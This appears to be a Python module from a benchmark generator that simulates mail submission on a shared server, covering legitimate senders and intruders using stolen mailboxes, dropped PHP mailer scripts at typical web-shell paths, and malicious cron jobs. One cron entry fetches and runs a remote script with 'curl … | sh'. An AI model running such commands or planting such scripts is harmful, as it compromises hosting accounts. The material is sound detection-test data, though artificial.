"""The ways mail reaches Exim on the shared server, for the legitimate owners and for the people who broke in."""

from __future__ import annotations

from bench.modern_mail_e.parts import Ctx
from bench.modern_mail_e.submit import Route
from bench.modern_mail_e.world import HOST

PLUGINS = ("wp-content/plugins/contact-form-7/includes/mail.php", "wp-includes/pluggable.php",
           "wp-content/plugins/woocommerce/includes/emails/class-wc-email.php",
           "wp-content/plugins/wpforms-lite/src/Emails/Mailer.php", "wp-content/plugins/mailpoet/mailpoet.php")


def office_ip(c: Ctx) -> str:
    return f"198.51.100.{10 + c.acct.uid % 200}"


def mailbox(c: Ctx, index: int = 0, mobile: bool = False) -> Route:
    """The owner's mail client over SMTP AUTH from the office or a phone."""
    login = c.who(index)[1]
    if mobile:
        return Route("mailbox", login, f"203.0.113.{c.rng.randrange(2, 250)}", c.rng.choice(("[10.24.8.3]", "iPhone")))
    helo = c.rng.choice(("[192.168.1.23]", f"DESKTOP-{c.token(7).upper()}", "MacBook-Pro.local", "[10.0.0.12]"))
    return Route("mailbox", login, office_ip(c), helo)


def webmail(c: Ctx, index: int = 0) -> Route:
    return Route("webmail", c.who(index)[1])


def site_script(c: Ctx, script: str, env_from: str = "") -> Route:
    """The account's own web application (a shop, a form, a booking system)."""
    return Route("php", script=f"public_html/{script}", env_from=env_from)


def cron(c: Ctx, command: str, env_from: str = "") -> Route:
    return Route("cron", script=command, env_from=env_from)


def default_sender(c: Ctx) -> str:
    return f"{c.acct.user}@{HOST}"


# --- how the intruders send -------------------------------------------------------------------------------

def stolen_mailbox(c: Ctx, index: int = 0) -> Route:
    """A mailbox whose password was phished or guessed, used from somewhere else."""
    ip = f"{c.rng.choice(('203.0.113', '198.51.100', '192.0.2'))}.{c.rng.randrange(2, 254)}"
    helo = c.rng.choice(("User", "WIN-" + c.token(11).upper(), "[127.0.0.1]", "localhost", c.token(8).lower(),
                         "mail.example.com", f"[{ip}]"))
    return Route("mailbox", c.who(index)[1], ip, helo)


def stolen_webmail(c: Ctx, index: int = 0) -> Route:
    return Route("webmail", c.who(index)[1])


DROPPED = ("public_html/wp-content/uploads/2026/10/{t}.php", "public_html/wp-includes/js/tinymce/{t}.php",
           "public_html/wp-content/plugins/{t}/{t}.php", "public_html/.well-known/{t}.php",
           "public_html/wp-content/themes/twentytwentyfour/{t}.php", "public_html/images/cache/{t}.php",
           "public_html/administrator/components/com_{t}/mailer.php", "tmp/.{t}/send.php",
           "public_html/wp-content/plugins/wp-file-manager/lib/files/{t}.php", "public_html/index.old.php")


def dropped_script(c: Ctx, env_from: str = "") -> Route:
    t = c.rng.choice(("wp-conf", "class-api", "xmlrpcs", "about", "alfa", "mailer", "wso", "simple", "defau1t",
                      "moduleinstaller", c.token(6).lower()))
    return Route("php", script=c.rng.choice(DROPPED).format(t=t), env_from=env_from)


def evil_cron(c: Ctx, env_from: str = "") -> Route:
    cmd = c.rng.choice(("/usr/bin/php /home/{u}/.cache/.x/run.php", "perl /tmp/.ICE-unix/.m/m.pl",
                        "/usr/local/bin/php -q /home/{u}/public_html/wp-admin/css/colors/q.php",
                        "curl -s http://198.51.100.7/s.sh | sh")).format(u=c.acct.user)
    return Route("cron", script=cmd, env_from=env_from)
